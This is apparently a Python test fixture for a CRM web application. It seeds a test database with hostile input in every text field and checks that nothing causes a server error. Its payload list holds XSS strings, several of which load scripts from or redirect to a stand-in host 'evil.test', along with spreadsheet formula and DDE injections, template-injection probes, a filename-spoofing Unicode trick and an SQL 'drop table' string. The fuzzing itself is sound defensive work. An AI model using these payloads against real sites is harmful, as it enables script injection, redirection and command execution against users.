"""A small house in which everybody types what a joker types: markup, scripts, formulas and odd signs in every field that takes words.

Promises that no field answers with a bug of ours. Run as a program it fills an empty database and prints the cookies of its people by role.
"""

import asyncio
import json
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import cycle
from pathlib import Path
from typing import Any

import httpx

from crm import database
from crm.roles import ROLES
from tests.cast import AT_THE_SHOW, fetch, open_chengdu, registration, says, send, signed_in, value, wants, work

PAYLOADS = (
    "<script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=window.__x=1>",
    "<img src=x onerror='window.__x=1'>",
    '"><img src=x onerror="window.__x=1">',
    "'><svg/onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<math><mtext></table><img src=x onerror=window.__x=1>",
    "<body onload=window.__x=1>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<iframe src=javascript:parent.__x=1></iframe>",
    "<object data=javascript:window.__x=1></object>",
    "<details open ontoggle=window.__x=1>x</details>",
    "<input autofocus onfocus=window.__x=1>",
    "<a href=javascript:window.__x=1>click</a>",
    "<form action=//evil.test><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div hx-on:load=window.__x=1>x</div>",
    "<template><script>window.__x=1</script></template>",
    '" onmouseover="window.__x=1" x="',
    "' autofocus onfocus='window.__x=1",
    "` onclick=window.__x=1 `",
    "</textarea><script>window.__x=1</script>",
    "</title><script>window.__x=1</script>",
    "--><script>window.__x=1</script><!--",
    "javascript:window.__x=1",
    "data:text/html,<script>window.__x=1</script>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "%(name)s {0} {name!r} %n %s",
    '=HYPERLINK("http://evil.test","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e\u202dgnp.exe\u2066",
    "＜script＞window.__x=1＜/script＞",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    'O\'Neil "Bob" & Söhne \\ ; drop table lead; --',
    "\U0001f469\u200d\U0001f680\u0301\u0301\u0301 Ｚ̸̡a̵l̴g̷o",
    "x" * 60,
)
# Where two thousand characters fit, all of them stand at once.
ALL = "\n".join(PAYLOADS)[:1990]
MANY = 12


def words(longest: int) -> Iterator[str]:
    """What is typed where so much fits, one after the other."""
    return cycle([payload for payload in PAYLOADS if len(payload) <= longest])


async def fill(folder: Path) -> dict[str, str]:
    """Leads, people, stores, notes and all else that is typed; answers with a cookie for every role."""
    await open_chengdu(folder, stores=_stores())
    at = datetime.now(UTC) - timedelta(minutes=2)
    outcomes = await send(*_leads(at), by="joker", at=at)
    assert all(outcome.lead_id for outcome in outcomes), [outcome.errors for outcome in outcomes]
    await work(at)
    admin = await signed_in("alliance_admin")
    for number, outcome in enumerate(outcomes):
        await _say(admin, number, outcome.lead_id)
    await _say_elsewhere(admin)
    await _say_in_the_store(await signed_in("store"))
    await work(datetime.now(UTC))
    return {role: await _cookie(role) for role in ROLES}


def _stores() -> str:
    head = "store_code,name_zh,dealer_code,kind,brands,region_code,longitude,latitude,daily_capacity,weight,opens,closes,services\n"
    lines = [
        f'S{number},"{word.replace(chr(34), chr(34) * 2)}",D1,user_centre,aito,510107,104.06{number:02},30.57{number:02},500,1,09:00,18:00,sales'
        for number, word in zip(range(1, MANY), words(60), strict=False)
    ]
    return head + "\n".join(lines) + "\n"


def _leads(at: datetime) -> Iterator[dict[str, Any]]:
    names, lines, codes = words(60), words(190), words(70)
    for number in range(MANY * 3):
        yield registration(
            external_id=f"{number}{next(codes)}",
            captured_at=at.isoformat(),
            source={"kind": "event_desk", "campaign": next(codes), "event": next(codes), "booth": next(codes)},
            person={"name": next(names), "phone": f"139{(number + 1) * 76543211 % 10**8:08}"},
            place={"address": next(lines), **AT_THE_SHOW},
            interests=[wants("aito", "test_drive")],
            trade_in={"make": next(lines), "model": next(lines)},
            contact_preference={"channel": "phone", "note": ALL},
            consents=[says(True, "aito"), says(True, "aito", purpose="share_with_brand")],
            remark=ALL,
        )


async def _say(client: httpx.AsyncClient, number: int, lead: Any) -> None:
    word = PAYLOADS[number % len(PAYLOADS)]
    person = await value(
        "select coalesce(merged_into, person.id) from lead join person on person.id = person where lead.id = $1", lead
    )
    await _post(client, f"/leads/{lead}/notes", text=ALL)
    await _post(client, f"/leads/{lead}/tasks", task=word)
    await _post(client, f"/people/{person}/notes", text=ALL)
    version = await value("select version from person where id = $1", person)
    await _post(client, f"/people/{person}/corrections", field="name", value=word, heard="id_seen", version=version)
    if number % 5 == 0:
        interest, offer = await _last(lead)
        if offer:
            await _post(client, f"/leads/{lead}/offers/{offer}/withdrawal", reason="other", words=word)
        await _post(client, f"/leads/{lead}/offers", interest=interest, store="S2", reason="other", words=word)


async def _say_elsewhere(client: httpx.AsyncClient) -> None:
    for number, word in enumerate(PAYLOADS):
        if number % 4 == 0:
            await _post(client, "/staff", login=f"joker{number}@marquee.test", name=word, role="auditor")
            await _post(client, "/views", name=word[:80], query=f"campaign={word}", shared="team")
            await _post(client, "/keys", kind="source", code=word[:40], scopes=["leads"])
            await _post(
                client,
                "/notices",
                notice="desk",
                version=f"{number}",
                language="en",
                text=ALL,
                valid_from_on="2026-01-01",
            )
            await _post(
                client,
                "/leads/new",
                external_id=f"hand{number}",
                name=word,
                phone=f"1360000{number:04}",
                place=word,
                remark=ALL,
                reach_by=word,
            )
            content = f"姓名,手机,{word},备注\n{word},1380000{number:04},{word},{word}\n".encode()
            await _post(
                client, "/imports", files={"file": (f"{word[:60]}.csv", content)}, subject="leads", source="desk"
            )
        for path in ("/search", "/people/search", "/leads/search"):
            answer = await _post(client, path, q=word)
            assert (await client.get(answer.headers["location"])).status_code < 500, path
        for path in ("/leads", "/stores", "/audit", "/people", "/policies", "/sign-in"):
            assert (await client.get(path, params={"q": word})).status_code < 500, path
            assert (await client.get(path, params={word: word})).status_code < 500, path
    await _post(client, "/policies/aito/drafts")


async def _say_in_the_store(client: httpx.AsyncClient) -> None:
    offers = await fetch("select id from offer where state = 'offered' order by id limit 8")
    for number, (offer,) in enumerate(offers):
        keys = [f"{number * 10 + step:032x}" for step in range(3)]
        if number % 2:
            await _post(client, f"/my-store/offers/{offer}/refusal", key=keys[0], reason="other", note=ALL)
        else:
            await _post(client, f"/my-store/offers/{offer}/acceptance", key=keys[1])
            await _post(
                client,
                f"/my-store/offers/{offer}/dispositions",
                key=keys[2],
                kind="contacted",
                note=ALL,
                salesperson=PAYLOADS[number],
            )


async def _last(lead: Any) -> tuple[Any, Any]:
    [row] = await fetch(
        """
        select interest.id, offer.id as offer from interest left join offer on offer.interest = interest.id and state = 'offered'
        where lead = $1 limit 1
        """,
        lead,
    )
    return row["id"], row["offer"]


async def _post(client: httpx.AsyncClient, path: str, *, files: Any = None, **said: Any) -> httpx.Response:
    answer = await client.post(path, data=said, files=files)
    assert answer.status_code < 500, (path, answer.status_code)
    return answer


async def _cookie(role: Any) -> str:
    client = await signed_in(role)
    return next(cookie.value or "" for cookie in client.cookies.jar)


async def _tell() -> None:
    await database.open_pool(synchronous_commit="off")
    with tempfile.TemporaryDirectory() as folder:
        cookies = await fill(Path(folder))
    await database.close_pool()
    print(json.dumps(cookies))


if __name__ == "__main__":
    asyncio.run(_tell())
